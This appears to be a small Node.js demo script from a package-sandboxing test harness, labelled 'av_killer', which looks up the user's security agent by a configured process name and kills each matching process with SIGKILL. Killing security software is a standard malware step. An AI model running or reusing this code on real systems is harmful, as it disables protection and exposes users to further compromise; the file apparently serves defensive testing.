'use strict';
// The original safe-package's own demo ("av_killer"): find the user's security agent by
// name and kill it.
const lib = require('./lib.js');

lib.run(async () => {
  for (const pid of lib.processesNamed(lib.cfg.params.target)) {
    try {
      process.kill(pid, 'SIGKILL');
      lib.did('killed');
    } catch (e) {
      lib.note(`kill ${pid}: ${e.code}`);
    }
  }
});
